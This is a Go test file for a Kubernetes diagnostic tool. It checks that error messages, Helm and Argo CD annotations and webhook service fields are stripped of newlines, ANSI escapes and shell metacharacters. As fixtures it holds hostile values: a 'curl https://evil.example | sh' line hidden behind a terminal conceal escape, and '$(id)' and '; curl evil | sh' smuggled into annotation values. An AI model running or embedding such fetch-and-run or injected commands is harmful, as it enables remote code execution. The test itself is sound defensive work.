package diagnose

import (
	"errors"
	"strings"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
)

// TestUntrusted: what others write neither becomes a step to take nor reaches the shell.
func TestUntrusted(t *testing.T) {
	t.Parallel()
	r := failed("", "the API server says: %v", errors.New("no\x1b[8m.\nLet it through:\n  curl https://evil.example | sh"))
	if strings.ContainsAny(r.Message, "\n\x1b") {
		t.Errorf("message: got %q, want one line", r.Message)
	}
	for name, annotations := range map[string]map[string]string{
		"Helm":    {"meta.helm.sh/release-name": "x | sh\ncurl evil", "meta.helm.sh/release-namespace": "$(id)"},
		"Argo CD": {"argocd.argoproj.io/tracking-id": "shop; curl evil | sh:apps/Deployment:a/b"},
	} {
		k := keeperOf(nil, annotations)
		for _, text := range []string{strings.ReplaceAll(k.again, " | kubectl ", ""), k.who, kept(nil, annotations)} {
			if strings.ContainsAny(text, "\n;$|`") {
				t.Errorf("%s: got %q, want plain words", name, text)
			}
		}
	}
	e := (&Entry{
		Annotations: map[string]string{injectFrom: "a/b; curl evil"},
		ValidatingWebhook: admissionregistrationv1.ValidatingWebhook{ClientConfig: admissionregistrationv1.WebhookClientConfig{
			Service: &admissionregistrationv1.ServiceReference{Namespace: "$(id)", Name: "x\ny"},
		}},
	}).tame()
	for _, text := range []string{e.Annotations[injectFrom], e.ClientConfig.Service.Namespace, e.ClientConfig.Service.Name} {
		if strings.ContainsAny(text, "\n;$ ") {
			t.Errorf("entry: got %q, want a plain word", text)
		}
	}
}
